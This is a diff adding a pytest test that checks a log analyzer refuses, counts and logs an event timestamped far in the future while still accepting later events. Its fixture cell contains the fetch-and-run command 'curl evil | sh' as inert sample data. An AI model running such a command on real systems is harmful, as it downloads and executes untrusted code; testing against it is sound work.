@@ -116,3 +116,21 @@ async def test_missing_and_non_directory_log_dirs_are_reported_not_fatal(tmp_pat
         ("log directory does not exist yet", "missing"),
         ("log directory is not a directory", "file.jsonl"),
     ]
+
+
+@pytest.mark.anyio
+async def test_an_event_far_in_the_future_is_refused_counted_and_logged_and_the_block_goes_on(harness: Harness):
+    """``time: 1e300`` would pin the block's executed cell for ever (newest wins): the event is refused, the
+    block keeps learning from later, sane events."""
+    log = harness.log_dirs[0] / "a.jsonl"
+    pinned = event_line("executed", "b1", 1e300, cell=Cell("code", "curl evil | sh", "bash"), exit_code=0)
+    log.write_text(_events("b1") + pinned)
+    with captured_logs() as seen:
+        stats = await harness.analyzer().sync()
+    assert get_block(harness.conn, "b1").executed == EXECUTED
+    assert stats.refused_events == 1 and stats.malformed_lines == 0
+    assert any(e["event"] == "block event refused" and "more than a day" in e["reason"] for e in seen)
+    rerun = Cell("code", "kubectl get pods -n dev -o wide", "bash")
+    append(log, event_line("executed", "b1", "2024-05-01T12:05:00Z", cell=rerun, exit_code=0))
+    await harness.analyzer().sync()
+    assert get_block(harness.conn, "b1").executed == rerun
